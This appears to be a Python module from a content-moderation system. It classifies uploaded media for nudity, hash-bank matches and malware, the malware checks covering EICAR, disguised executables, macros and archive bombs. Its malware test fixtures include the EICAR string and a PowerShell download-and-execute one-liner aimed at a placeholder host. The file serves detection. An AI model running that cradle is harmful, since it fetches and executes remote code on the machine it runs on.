"""The three media classifiers: NudeNet findings, hash-bank matches, malware.

They read what :func:`classifiers.media.extract` put in ``content.signals``;
none of them decodes media itself, so each costs microseconds. The malware
classifier alone falls back to sniffing and scanning ``content.data`` when
extract did not run (it is cheap and it must never miss EICAR).
"""

from __future__ import annotations

from classifiers.base import Classifier, Content, Example
from modpipe.domain import Category, CategoryResult, Decision, Evidence, Kind

from . import nsfw
from .canary import CANARY_ENTRY_ID, canary_image
from .hashbank import PDQ_THRESHOLD, PdqIndex, pdq_hash
from .limits import DEFAULT_LIMITS, MediaLimits


def _box(b) -> tuple[float, float, float, float] | None:
    return tuple(float(v) for v in b) if b else None


class NsfwClassifier:
    """Exposed sexual parts -> porn_gambling_violence; sexualised covered parts -> spam_ads_sexual."""

    name = "nsfw_nudenet"
    categories = (Category.PORN_GAMBLING_VIOLENCE, Category.SPAM_ADS_SEXUAL)

    def classify(self, content: Content) -> list[CategoryResult]:
        out = []
        for cat, f in nsfw.categorise(content.signals.get("nsfw") or []).items():
            ev = [
                Evidence(
                    source="nsfw",
                    detail=f"NudeNet {d['class']} ({float(d['score']):.2f})",
                    box=_box(d.get("box")),
                    time=d.get("time"),
                    score=float(d["score"]),
                )
                for d in sorted(f.detections, key=lambda d: -float(d["score"]))[:10]
            ]
            out.append(CategoryResult(cat, f.score, ev, f.floor))
        return out

    def examples(self) -> list[Example]:
        def image(dets):
            return Content(kind=Kind.IMAGE, signals={"nsfw": dets})

        return [
            Example(image([{"class": "FEMALE_GENITALIA_EXPOSED", "score": 0.86, "box": [40, 60, 120, 150]}]),
                    Category.PORN_GAMBLING_VIOLENCE, Decision.BLOCK),
            Example(image([{"class": "FEMALE_BREAST_EXPOSED", "score": 0.55, "box": [10, 10, 90, 90], "time": 4.0}]),
                    Category.PORN_GAMBLING_VIOLENCE, Decision.REVIEW),
            Example(image([{"class": "FEMALE_GENITALIA_COVERED", "score": 0.7, "box": [0, 0, 50, 50]}]),
                    Category.SPAM_ADS_SEXUAL, Decision.REVIEW),
            Example(image([{"class": "FACE_FEMALE", "score": 0.9, "box": [0, 0, 50, 50]},
                           {"class": "FEET_EXPOSED", "score": 0.8, "box": [0, 0, 50, 50]}]),
                    Category.PORN_GAMBLING_VIOLENCE, Decision.PASS),
            Example(image([]), Category.SPAM_ADS_SEXUAL, Decision.PASS),
        ]


class HashBankClassifier:
    """PDQ matches against the platform bank and the item's organisation's bank.

    A match within ``max_distance`` (default 31, PDQ's threshold) scores the
    bank entry's category at 1.0 with ``floor=BLOCK``. Hashes of quality
    below ``min_quality`` (flat, featureless pictures) are not matched: PDQ
    cannot tell such images apart.
    """

    name = "hash_bank_pdq"
    categories = tuple(Category)

    def __init__(self, index: PdqIndex, max_distance: int = PDQ_THRESHOLD,
                 min_quality: int = DEFAULT_LIMITS.pdq_min_quality, canary: bool = True) -> None:
        self.index = index
        self.max_distance = max_distance
        self.min_quality = min_quality
        if canary and CANARY_ENTRY_ID not in index:
            index.add(CANARY_ENTRY_ID, pdq_hash(canary_image())[0], Category.OTHER_ILLEGAL.value, None)

    def classify(self, content: Content) -> list[CategoryResult]:
        results: dict[Category, CategoryResult] = {}
        seen: set[tuple[str, float | None]] = set()
        for h in content.signals.get("pdq") or []:
            if int(h.get("quality", 100)) < self.min_quality:
                continue
            variants = [(h["hash"], "")] + [(v, " (rotated or mirrored copy)") for v in h.get("dihedral") or []]
            for hash_hex, how in variants:
                for m in self.index.query(hash_hex, self.max_distance, org_id=content.org_id):
                    if (m.entry_id, h.get("time")) in seen:
                        continue
                    seen.add((m.entry_id, h.get("time")))
                    self._add(results, m, h.get("time"), how)
        return list(results.values())

    def _add(self, results: dict, m, time: float | None, how: str) -> None:
        try:
            cat = Category.parse(m.category)
        except ValueError:
            return
        bank = "platform" if m.org_id is None else f"org {m.org_id}"
        ev = Evidence(
            source="hash",
            detail=f"PDQ match{how}: {bank} bank entry {m.entry_id}, distance {m.distance} <= {self.max_distance}",
            time=time,
            rule_id=m.entry_id,
            score=round(1.0 - m.distance / 256, 4),
        )
        r = results.setdefault(cat, CategoryResult(cat, 1.0, [], Decision.BLOCK))
        if len(r.evidence) < 20:
            r.evidence.append(ev)

    def examples(self) -> list[Example]:
        """Real pictures, run through extract by the contract test: the canary
        itself, a shrunk JPEG copy, a mirrored copy, a different picture, a flat one."""
        import io

        from PIL import Image

        from .synth import photo_like

        def png(im: Image.Image, fmt: str = "PNG", **kw) -> bytes:
            buf = io.BytesIO()
            im.save(buf, fmt, **kw)
            return buf.getvalue()

        canary = Image.fromarray(canary_image())
        return [
            Example(Content(kind=Kind.IMAGE, data=png(canary)), Category.OTHER_ILLEGAL, Decision.BLOCK),
            Example(Content(kind=Kind.IMAGE, data=png(canary.resize((200, 200)), "JPEG", quality=70)),
                    Category.OTHER_ILLEGAL, Decision.BLOCK),
            Example(Content(kind=Kind.IMAGE, data=png(canary.transpose(Image.Transpose.FLIP_LEFT_RIGHT))),
                    Category.OTHER_ILLEGAL, Decision.BLOCK),
            Example(Content(kind=Kind.IMAGE, data=png(photo_like((256, 256), seed=5))), Category.OTHER_ILLEGAL,
                    Decision.PASS),
            Example(Content(kind=Kind.IMAGE, data=png(Image.new("RGB", (256, 256), (120, 130, 140)))),
                    Category.OTHER_ILLEGAL, Decision.PASS),
        ]


class MalwareClassifier:
    """Category 15: EICAR and YARA hits, code or macros posing as media,
    executables where the platform does not take them, archive bombs."""

    name = "malware_files"
    categories = (Category.MALWARE,)

    def __init__(self, limits: MediaLimits = DEFAULT_LIMITS) -> None:
        self.limits = limits

    def _signals(self, content: Content) -> dict:
        sig = content.signals
        if "filetype" in sig or not content.data or content.kind == Kind.TEXT:
            return sig
        from . import yara_rules
        from .extract import _filetype_signal
        from .sniff import sniff

        data = content.data
        return {**sig, "filetype": _filetype_signal(content, sniff(data, content.filename)),
                "yara": yara_rules.scan(data[: self.limits.max_member_scan_bytes])}

    def classify(self, content: Content) -> list[CategoryResult]:
        sig = self._signals(content)
        found: list[tuple[float, Decision, Evidence]] = []
        for y in sig.get("yara") or []:
            block = y.get("severity") == "block"
            found.append((float(y.get("score", 0.7)), Decision.BLOCK if block else Decision.REVIEW, Evidence(
                source="yara", detail=f"{y['description']} ({y['namespace']}.{y['rule']})"
                + (f" in {y['member']}" if y.get("member") else ""),
                rule_id=f"{y['namespace']}.{y['rule']}", severity=y.get("severity"), field=y.get("member"))))
        ft = sig.get("filetype") or {}
        dangerous = ft.get("executable") or ft.get("script") or ft.get("macro")
        if ft.get("mismatch") and dangerous:
            found.append((0.95, Decision.BLOCK, Evidence(
                source="filetype", detail=f"declared {ft.get('declared_kind')}, but the bytes are {ft.get('label')} "
                f"({ft.get('mime')})", severity="block")))
        elif ft.get("executable") and not self.limits.allow_executables:
            found.append((0.9, Decision.BLOCK, Evidence(
                source="filetype", detail=f"executable file ({ft.get('label')}); the platform does not accept programs",
                severity="block")))
        elif ft.get("macro"):
            found.append((0.6, Decision.REVIEW, Evidence(
                source="filetype", detail=f"office document with macros ({ft.get('label')})", severity="review")))
        ar = sig.get("archive") or {}
        if ar.get("bomb"):
            found.append((0.95, Decision.BLOCK, Evidence(source="archive", detail=f"archive bomb: {ar['bomb']}",
                                                          severity="block")))
        if ar.get("executables") and not self.limits.allow_executables:
            found.append((0.9, Decision.BLOCK, Evidence(
                source="archive", detail="archive holds executables: " + ", ".join(ar["executables"][:5]),
                severity="block")))
        if ar.get("macros"):
            found.append((0.6, Decision.REVIEW, Evidence(
                source="archive", detail="archive holds macro documents: " + ", ".join(ar["macros"][:5]),
                severity="review")))
        if ar.get("traversal"):
            found.append((0.6, Decision.REVIEW, Evidence(
                source="archive", detail="member names climb out of the archive (path traversal): "
                + ", ".join(ar["traversal"][:5]), severity="review")))
        if ar.get("encrypted"):
            found.append((0.5, Decision.REVIEW, Evidence(
                source="archive", detail="password-protected members could not be inspected", severity="review")))
        elif ar.get("unreadable"):
            found.append((0.4, Decision.REVIEW, Evidence(source="archive", detail=ar["unreadable"],
                                                         severity="review")))
        if not found:
            return []
        score = max(s for s, _, _ in found)
        floor = max((d for _, d, _ in found), key=lambda d: d.rank)
        return [CategoryResult(Category.MALWARE, score, [e for _, _, e in found][:20], floor)]

    def examples(self) -> list[Example]:
        eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
        pe = b"MZ" + b"\x90\x00" * 29 + b"\x40\x00\x00\x00" + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200
        return [
            Example(Content(kind=Kind.FILE, data=eicar, filename="eicar.com"), Category.MALWARE, Decision.BLOCK),
            Example(Content(kind=Kind.IMAGE, data=pe, filename="photo.jpg", mime="image/jpeg"),
                    Category.MALWARE, Decision.BLOCK),
            Example(Content(kind=Kind.FILE, data=b"IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')",
                            filename="run.ps1"), Category.MALWARE, Decision.BLOCK),
            Example(Content(kind=Kind.FILE, data="本次义卖活动的收支明细如下：收入三千元，支出一千元。".encode(),
                            filename="report.txt"), Category.MALWARE, Decision.PASS),
        ]


def build_media_classifiers(hash_index: PdqIndex, limits: MediaLimits = DEFAULT_LIMITS) -> list[Classifier]:
    """The media classifiers for the registry, bound to the process's hash index."""
    return [NsfwClassifier(), HashBankClassifier(hash_index, min_quality=limits.pdq_min_quality),
            MalwareClassifier(limits)]
